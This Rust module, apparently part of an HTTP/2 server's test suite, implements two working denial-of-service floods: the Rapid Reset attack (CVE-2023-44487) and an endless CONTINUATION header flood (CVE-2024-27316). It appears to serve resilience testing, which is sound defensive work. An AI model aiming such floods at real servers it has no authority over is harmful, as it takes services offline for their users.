//! Floods of frames of HTTP/2.

use std::io;
use std::net::SocketAddr;
use std::time::Duration;

use portcullis_tests::frames::{
    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, beginning, frame, head,
};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::interval;

use super::attack::Doing;

/// Requests that are taken back as soon as they are made (CVE-2023-44487).
pub(crate) async fn reset(address: SocketAddr, doing: &Doing) -> io::Result<()> {
    let request = head("/garden/roses");
    let burst = |number: u32| {
        let streams = (number * REQUESTS_OF_A_BURST..(number + 1) * REQUESTS_OF_A_BURST).map(|it| 2 * it + 1);
        let both = |stream| {
            let ask = frame(HEADERS, END_STREAM | END_HEADERS, stream, &request);
            [ask, frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())].concat()
        };
        streams.flat_map(both).collect()
    };
    flood(address, doing, burst).await
}

/// A head that goes on and on (CVE-2024-27316 and others).
pub(crate) async fn continuation(address: SocketAddr, doing: &Doing) -> io::Result<()> {
    let request = frame(HEADERS, END_STREAM, 1, &head("/garden/roses"));
    // A literal header without indexing, again and again: about 16 KB.
    let more = frame(CONTINUATION, 0, 1, &b"\0\x03x-a\x03abc".repeat(1_600));
    let burst = |number: u32| {
        let first = if number == 0 { &request[..] } else { &[] };
        [first, &more.repeat(5)].concat()
    };
    flood(address, doing, burst).await
}

/// Sends bursts, fifty a second, until the other side has enough of it.
async fn flood(address: SocketAddr, doing: &Doing, burst: impl Fn(u32) -> Vec<u8>) -> io::Result<()> {
    let stream = TcpStream::connect(address).await?;
    let (mut reading, mut writing) = stream.into_split();
    // What is answered is taken, so that nothing is the client's slowness.
    let reader = tokio::spawn(async move {
        let mut answer = vec![0; 16 << 10];
        while matches!(reading.read(&mut answer).await, Ok(1..)) {}
    });
    writing.write_all(&beginning()).await?;
    doing.begin();
    let mut next = interval(PAUSE);
    for number in 0.. {
        next.tick().await;
        if doing.is_over() || reader.is_finished() {
            break;
        }
        writing.write_all(&burst(number)).await?;
    }
    match doing.is_over() {
        true => Ok(()),
        false => Err(io::ErrorKind::ConnectionReset.into()),
    }
}

const PAUSE: Duration = Duration::from_millis(20);
const REQUESTS_OF_A_BURST: u32 = 100;
const CANCEL: u32 = 8;
